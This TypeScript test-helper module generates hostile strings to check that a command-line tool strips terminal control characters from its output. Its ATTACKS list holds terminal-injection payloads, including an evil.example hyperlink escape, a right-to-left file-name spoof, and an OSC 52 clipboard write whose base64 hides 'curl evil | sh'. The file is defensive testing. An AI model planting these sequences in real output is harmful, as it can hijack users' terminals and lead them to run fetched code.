import fc from 'fast-check';

/** Every character a terminal may act on: C0, DEL, C1, U+061C, U+200E-F, U+2028-9, U+202A-E, U+2066-9. */
// eslint-disable-next-line no-control-regex -- finding control characters is what these helpers are for
export const TERMINAL_CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const CONTROL_CODES = [
  ...Array.from({ length: 0x20 }, (_, index) => index),
  0x7f,
  ...Array.from({ length: 0x20 }, (_, index) => 0x80 + index),
  0x61c,
  0x200e,
  0x200f,
  0x2028,
  0x2029,
  0x202a,
  0x202b,
  0x202c,
  0x202d,
  0x202e,
  0x2066,
  0x2067,
  0x2068,
  0x2069,
];
export const CONTROL_CHARS = CONTROL_CODES.map((code) => String.fromCharCode(code));

/** What an attacker puts in a catalog, a host list or a file name to take over a terminal. */
export const ATTACKS = [
  '\u001b[31m',
  '\u001b[2J\u001b[H',
  '\u001b]8;;https://evil.example/\u0007link\u001b]8;;\u0007',
  '\u001b]0;window title\u0007',
  '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u001b\\',
  'safe\b\b\b\bEVIL',
  '\u009b31m',
  '\u009d0;title\u009c',
  'gpj.\u202eexe',
  'line\rOVERWRITE',
  '\u007f',
] as const;

/** Strings made mostly of the characters that attack terminals, mixed with ordinary text. */
export const hostileString = (): fc.Arbitrary<string> =>
  fc.array(fc.oneof(fc.constantFrom(...CONTROL_CHARS, ...ATTACKS, '\\x1b'), fc.string()), { maxLength: 8 }).map((parts) => parts.join(''));

/** Chalk's colour sequences (SGR): the only escape sequences the output edge may add. */
// eslint-disable-next-line no-control-regex -- as above
export const SGR = /\u001b\[[0-9;]*m/g;

/**
 * The characters in the output that a terminal would act on, beyond tabs and line breaks (and,
 * with colour, the SGR sequences the tool adds itself); an empty list means data could not reach
 * the terminal as control codes.
 */
export function terminalControlsIn(output: string, colour: boolean): string[] {
  const text = (colour ? output.replace(SGR, '') : output).replace(/[\t\n]/g, '');
  return [...text].filter((char) => TERMINAL_CONTROL.test(char)).map((char) => `U+${char.codePointAt(0)!.toString(16).padStart(4, '0')}`);
}
